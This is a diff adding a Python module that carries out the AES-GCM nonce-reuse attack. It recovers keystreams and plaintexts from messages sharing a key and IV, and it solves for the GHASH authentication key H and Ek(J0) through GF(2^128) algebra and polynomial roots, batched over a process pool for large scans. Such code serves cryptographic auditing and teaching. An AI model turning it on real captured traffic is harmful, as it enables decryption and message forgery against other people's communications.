@@ -0,0 +1,249 @@
+"""
+Recovery routines for captured AES-GCM messages that reuse a (key, IV) pair.
+
+A Record is one message as seen on the wire; plaintext is only set when it is
+known (e.g. a message the attacker injected). For a group of records sharing
+key and IV:
+
+- case A: every message uses the same keystream, so C1 ^ C2 = P1 ^ P2 and a
+  known plaintext decrypts the other messages up to its length
+- case B: two one-block messages of equal length and equal AAD give
+  T1 ^ T2 = (C1 ^ C2) * H^2, so H = sqrt((T1 ^ T2) / (C1 ^ C2))
+- case C: two one-block messages of different lengths and equal AAD give
+  (C1 ^ C2) * H^2 + (L1 ^ L2) * H + (T1 ^ T2) = 0, a third message picks the root
+- case D: any lengths, T1 ^ T2 is a polynomial in H of degree up to the
+  number of GHASH blocks; H is a common root of the polynomials of all pairs
+
+H depends only on the key, Ek(J0) = T ^ GHASH_H(A, C) on key and IV.
+
+recover_groups spreads many groups over a process pool and yields results
+as they complete.
+"""
+import os
+import struct
+from concurrent.futures import FIRST_COMPLETED, Executor, ProcessPoolExecutor, wait
+from itertools import combinations, islice
+from typing import Iterable, Iterator, List, NamedTuple, Optional, Sequence, Tuple
+import gf128
+from attack_auxiliary import (
+    gf_inverse, gf_sqrt, gf_mul, list_to_int, solve_quadratic_gf2_128,
+    poly_trim, poly_gcd_many, poly_roots
+)
+
+# Case D: tag polynomials of higher degree are skipped, and roots are only
+# searched when the gcd of the pairs is at most ROOT_MAX_DEGREE (128 modular
+# squarings of a polynomial of that degree). With NumPy installed (FFT
+# products) the gcd of two polynomials of degree 4096 takes about 10 s and the
+# roots of one of degree 2048 about 20 s; pure-Python products are several
+# times slower.
+POLY_MAX_DEGREE = 4096
+ROOT_MAX_DEGREE = 2048
+
+class Record(NamedTuple):
+    key_id: str
+    iv: bytes
+    aad: bytes
+    ciphertext: bytes
+    tag: bytes
+    plaintext: Optional[bytes] = None
+
+def _xor(a: bytes, b: bytes) -> bytes:
+    """a ^ b over the shorter length"""
+    n = min(len(a), len(b))
+    return (int.from_bytes(a[:n], 'big') ^ int.from_bytes(b[:n], 'big')).to_bytes(n, 'big')
+
+def _pad(data: bytes) -> bytes:
+    return bytes(data) + bytes(-len(data) % 16)
+
+def _length_block(record: Record) -> bytes:
+    return struct.pack('>QQ', len(record.aad) * 8, len(record.ciphertext) * 8)
+
+def _blocks(aad: bytes, ciphertext: bytes) -> List[int]:
+    """the GHASH input blocks, length block included"""
+    data = _pad(aad) + _pad(ciphertext) + struct.pack('>QQ', len(aad) * 8, len(ciphertext) * 8)
+    return [int.from_bytes(data[i:i + 16], 'big') for i in range(0, len(data), 16)]
+
+def ghash(h: int, aad: bytes, ciphertext: bytes) -> int:
+    """GHASH_H(A, C), length block included"""
+    y = 0
+    for block in _blocks(aad, ciphertext):
+        y = gf128.mul(y ^ block, h)
+    return y
+
+def mask(h: int, record: Record) -> int:
+    """Ek(J0) implied by H and the record's tag"""
+    return int.from_bytes(record.tag, 'big') ^ ghash(h, record.aad, record.ciphertext)
+
+def tag_matches(h: int, e_j0: int, record: Record) -> bool:
+    return ghash(h, record.aad, record.ciphertext) ^ e_j0 == int.from_bytes(record.tag, 'big')
+
+# --- Case A: keystream reuse ---
+
+def recover_keystream(records: Sequence[Record]) -> dict:
+    """
+    With a known plaintext: {"keystream", "plaintexts"} (every message decrypted
+    up to the keystream length). Otherwise {"plaintext_xor"} of the first two
+    messages.
+    """
+    known = [r for r in records if r.plaintext is not None]
+    if not known:
+        return {"plaintext_xor": _xor(records[0].ciphertext, records[1].ciphertext)}
+    best = max(known, key=lambda r: len(r.plaintext))
+    keystream = _xor(best.ciphertext, best.plaintext)
+    return {"keystream": keystream, "plaintexts": [_xor(r.ciphertext, keystream) for r in records]}
+
+# --- Case B and C: authentication key ---
+
+def recover_same_length(r1: Record, r2: Record) -> Optional[int]:
+    """case B: H from two different one-block messages of equal length and AAD"""
+    assert len(r1.ciphertext) == len(r2.ciphertext) <= 16 and r1.aad == r2.aad, 'Not a case B pair'
+    delta_c = list(_xor(_pad(r1.ciphertext), _pad(r2.ciphertext)))
+    if not any(delta_c):
+        return None
+    delta_t = list(_xor(r1.tag, r2.tag))
+    # H^2 = Delta_T / Delta_C, H = sqrt(H^2)
+    h_squared = gf_mul(delta_t, gf_inverse(delta_c))
+    return list_to_int(gf_sqrt(h_squared))
+
+def recover_different_length(r1: Record, r2: Record) -> List[int]:
+    """case C: candidate H values from two one-block messages of different lengths, equal AAD"""
+    assert len(r1.ciphertext) <= 16 and len(r2.ciphertext) <= 16 and r1.aad == r2.aad, 'Not a case C pair'
+    delta_c = list(_xor(_pad(r1.ciphertext), _pad(r2.ciphertext)))
+    delta_l = list(_xor(_length_block(r1), _length_block(r2)))
+    delta_t = list(_xor(r1.tag, r2.tag))
+    return [list_to_int(x) for x in solve_quadratic_gf2_128(delta_c, delta_l, delta_t)]
+
+def tag_polynomial(r1: Record, r2: Record) -> List[int]:
+    """
+    T1 ^ T2 as a polynomial in H (coefficient list, lowest degree first); Ek(J0)
+    cancels and a message with GHASH blocks B_1 .. B_m contributes B_j H^(m - j + 1)
+    """
+    p = [int.from_bytes(r1.tag, 'big') ^ int.from_bytes(r2.tag, 'big')]
+    for r in (r1, r2):
+        blocks = _blocks(r.aad, r.ciphertext)
+        m = len(blocks)
+        p += [0] * (m + 1 - len(p))
+        for j, block in enumerate(blocks):
+            p[m - j] ^= block
+    return poly_trim(p)
+
+def recover_polynomial(records: Sequence[Record]) -> Tuple[List[int], int, Optional[str]]:
+    """
+    case D: (candidate H values, pairs used, why it was skipped or None). Every
+    record is paired with the first one; H is a root of the gcd of their tag
+    polynomials, which with two or more pairs is almost always H alone.
+    """
+    polys = []
+    too_long = []
+    for r in records[1:]:
+        p = tag_polynomial(records[0], r)
+        # Identical messages give no equation
+        if len(p) > POLY_MAX_DEGREE + 1:
+            too_long.append(len(p) - 1)
+        elif len(p) > 1:
+            polys.append(p)
+    if not polys:
+        skipped = f"skipped: degree {min(too_long)} > {POLY_MAX_DEGREE}" if too_long else None
+        return [], 0, skipped
+    g = poly_gcd_many(polys)
+    if len(g) - 1 > ROOT_MAX_DEGREE:
+        return [], len(polys), f"skipped: gcd degree {len(g) - 1} > {ROOT_MAX_DEGREE}"
+    return poly_roots(g), len(polys), None
+
+def _pairs(records: Sequence[Record]) -> Iterator[Tuple[str, Record, Record]]:
+    """usable (case, r1, r2) pairs, case B first since it has a unique solution"""
+    # An empty message has no ciphertext block, so its AAD terms would not cancel
+    short = [r for r in records if 0 < len(r.ciphertext) <= 16]
+    for r1, r2 in combinations(short, 2):
+        if r1.aad == r2.aad and len(r1.ciphertext) == len(r2.ciphertext) and r1.ciphertext != r2.ciphertext:
+            yield 'B', r1, r2
+    for r1, r2 in combinations(short, 2):
+        if r1.aad == r2.aad and len(r1.ciphertext) != len(r2.ciphertext):
+            yield 'C', r1, r2
+
+def recover_group(records: Sequence[Record]) -> dict:
+    """
+    Everything recoverable from records sharing key and IV (at least two).
+
+    Always holds the case A result and "case". When a case B or C pair exists,
+    or else the polynomial method (case D) finds roots, it also holds
+    "candidates", a list of (H, Ek(J0)); when another message of the group was
+    available to check them, "verified" is True and the list is the surviving
+    candidates. "h" and "e_j0" are set once a single candidate remains.
+    When case D was needed but its polynomials exceeded POLY_MAX_DEGREE or
+    their gcd ROOT_MAX_DEGREE, "case_d" says so ("skipped: degree N > limit").
+    """
+    assert len(records) >= 2, 'A reuse group has at least two records'
+    result = recover_keystream(records)
+    result["case"] = "A"
+    for case, r1, r2 in _pairs(records):
+        if case == 'B':
+            h = recover_same_length(r1, r2)
+            hs = [] if h is None else [h]
+        else:
+            hs = recover_different_length(r1, r2)
+        candidates = [(h, mask(h, r1)) for h in hs]
+        others = [r for r in records if r is not r1 and r is not r2]
+        if others:
+            candidates = [(h, e_j0) for h, e_j0 in candidates if tag_matches(h, e_j0, others[0])]
+        if not candidates:
+            continue
+        result.update(case=case, candidates=candidates, verified=bool(others))
+        if len(candidates) == 1:
+            result["h"], result["e_j0"] = candidates[0]
+        return result
+    # Longer messages: every candidate left is consistent with all pairs used
+    hs, pairs, skipped = recover_polynomial(records)
+    if skipped:
+        result["case_d"] = skipped
+    if hs:
+        result.update(case="D", candidates=[(h, mask(h, records[0])) for h in hs], verified=pairs >= 2)
+        if len(hs) == 1:
+            result["h"], result["e_j0"] = result["candidates"][0]
+    return result
+
+# --- Many groups on a process pool ---
+
+# Groups per pool task, enough to amortise the pickling round trip
+GROUPS_PER_TASK = 8
+
+def _recover_batch(start: int, groups: List[Sequence[Record]]) -> List[Tuple[int, dict]]:
+    """worker: recover_group over consecutive groups, tagged with their input positions"""
+    return [(start + i, recover_group(records)) for i, records in enumerate(groups)]
+
+def recover_groups(groups: Iterable[Sequence[Record]], workers: int = None, executor: Executor = None,
+                   groups_per_task: int = GROUPS_PER_TASK) -> Iterator[Tuple[int, dict]]:
+    """
+    recover_group for every group, as (position in groups, result) in completion
+    order. The root solving, disambiguation and Ek(J0) recovery of each group run
+    on a process pool of the given number of workers (default: all CPUs), or on
+    executor when one is passed. groups is consumed lazily, with at most a few
+    tasks per worker in flight, so it may be a generator over a large scan.
+    workers=1 without an executor runs serially in this process.
+    """
+    workers = workers or os.cpu_count() or 1
+    groups = iter(groups)
+    if workers == 1 and executor is None:
+        for i, records in enumerate(groups):
+            yield i, recover_group(records)
+        return
+    pool = executor or ProcessPoolExecutor(max_workers=workers)
+    try:
+        pending = set()
+        submitted = 0
+        while True:
+            # Keep the pool busy without reading all groups into memory
+            while len(pending) < 2 * workers:
+                batch = list(islice(groups, groups_per_task))
+                if not batch:
+                    break
+                pending.add(pool.submit(_recover_batch, submitted, batch))
+                submitted += len(batch)
+            if not pending:
+                return
+            done, pending = wait(pending, return_when=FIRST_COMPLETED)
+            for future in done:
+                yield from future.result()
+    finally:
+        if executor is None:
+            pool.shutdown(cancel_futures=True)